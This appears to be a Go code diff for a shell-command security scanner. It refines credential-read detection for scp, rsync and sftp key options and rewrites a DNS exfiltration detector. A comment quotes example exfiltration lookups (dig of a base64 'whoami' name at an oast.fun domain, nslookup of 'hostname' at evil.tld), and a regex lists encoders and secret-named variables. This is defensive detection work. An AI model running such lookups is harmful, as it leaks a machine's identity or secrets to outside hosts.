@@ -455,7 +455,11 @@ func CredentialIn(v string) (string, bool) {
 // CredentialWords returns the credential label in c's arguments or
 // input redirections.
 func CredentialWords(c *shell.Command) (string, bool) {
-	return shCredentialRead(c.Params(), c)
+	args := c.Params()
+	if c.Name == "scp" || c.Name == "rsync" || c.Name == "sftp" {
+		args = sshKeyUseDropped(c.Name, args) // scp -i KEY: the key logs in
+	}
+	return shCredentialRead(args, c)
 }
 
 // shCredentialRead looks for a credential path in words and in c's input
@@ -517,6 +521,9 @@ func ReadsCredential(c *shell.Command) (string, bool) {
 	if c.Name == "curl" {
 		args = curlKeyUseDropped(args)
 	}
+	if c.Name == "scp" || c.Name == "rsync" || c.Name == "sftp" {
+		args = sshKeyUseDropped(c.Name, args)
+	}
 	if c.Name == "cp" || c.Name == "rsync" || c.Name == "scp" {
 		if len(args) > 1 {
 			args = args[:len(args)-1] // the last word is the destination
@@ -540,6 +547,29 @@ func shFindReads(c *shell.Command) bool {
 		}
 	}
 	return false
+}
+
+// sshKeyUseDropped returns scp, sftp or rsync arguments without the key
+// they log in with: scp's and sftp's -i KEY and -o IdentityFile=KEY, and
+// rsync's remote shell (-e "ssh -i KEY", --rsh=…). The key signs the login; its content is not
+// copied.
+func sshKeyUseDropped(name string, args []shell.Word) []shell.Word {
+	rsync := name == "rsync" // rsync's -i is --itemize-changes; its key is in -e
+	out := make([]shell.Word, 0, len(args))
+	for i := 0; i < len(args); i++ {
+		v := args[i].Value
+		switch {
+		case !rsync && v == "-i", rsync && (v == "-e" || v == "--rsh"),
+			!rsync && v == "-o" && i+1 < len(args) && strings.HasPrefix(strings.ToLower(args[i+1].Value), "identityfile"):
+			i++ // the option's value
+			continue
+		case !rsync && strings.HasPrefix(v, "-i") && len(v) > 2,
+			rsync && strings.HasPrefix(v, "--rsh="), !rsync && strings.HasPrefix(strings.ToLower(v), "-oidentityfile"):
+			continue
+		}
+		out = append(out, args[i])
+	}
+	return out
 }
 
 // curlKeyOpts take a key, certificate or netrc file that curl uses to
@@ -671,14 +701,43 @@ func SendsData(c *shell.Command) (string, bool) {
 	return "", false
 }
 
-// DNSExfil reports a DNS lookup of a name built from command output.
+// dnsValueOpts are the options of dig, host, nslookup and ping whose
+// value is not the name looked up (a port, a count, a type, an address
+// to bind).
+var dnsValueOpts = map[string]bool{"-p": true, "-t": true, "-c": true, "-i": true, "-W": true, "-w": true, "-s": true,
+	"-I": true, "-b": true, "-k": true, "-y": true, "-R": true, "-m": true, "-N": true}
+
+// dnsDataRx matches, in a name looked up, a substitution that puts local
+// data into it: an encoder, a file or archive read, the machine's or
+// user's identity, the environment, or a variable named for a secret.
+var dnsDataRx = match.MustRx(`(?:\$\(|\x60|\|)\s*(?:sudo\s+)?(?:base64|base32|basenc|xxd|od|hexdump|gzip|bzip2|xz|openssl|whoami|hostname|id|uname|printenv|env|history|cat|tar|ls|head\s+-c|cut\s+-c)\b|\$\{?[A-Za-z_]*(?:TOKEN|SECRET|KEY|PASS|PASSWORD|CRED|token|secret|key|pass|password|cred)[A-Za-z_]*\}?`)
+
+// DNSExfil reports a DNS lookup (dig, nslookup, host, ping …) of a name
+// that carries local data: one built from command output that encodes,
+// reads or identifies something of this machine
+// (dig "$(whoami | base64).x.oast.fun", nslookup `hostname`.evil.tld), or
+// a variable whose source is not shown. A
+// name derived from another lookup's answer (the MX host dig printed), a
+// DNS blocklist query of a reversed address, and a port or count taken
+// from a config file carry nothing of the user's.
 func DNSExfil(c *shell.Command) bool {
 	switch c.Name {
 	case "dig", "nslookup", "host", "ping", "drill", "resolvectl":
-		for _, w := range c.Params() {
-			if w.Subst && strings.Contains(w.Value, ".") {
-				return true
-			}
+	default:
+		return false
+	}
+	ps := c.Params()
+	for i, w := range ps {
+		v := w.Value
+		if strings.HasPrefix(v, "-") || strings.HasPrefix(v, "@") || strings.HasPrefix(v, "+") ||
+			i > 0 && dnsValueOpts[ps[i-1].Value] {
+			continue
+		}
+		// the substitution as written decides; a variable whose source is
+		// not shown (chunk=${fp:0:60}) may hold anything
+		shown := strings.Contains(v, "$(") || strings.Contains(v, "`")
+		if strings.Contains(v, ".") && (dnsDataRx.MatchString(v) && (w.Subst || !w.Const) || w.Subst && !shown) {
+			return true
 		}
 	}
 	return false
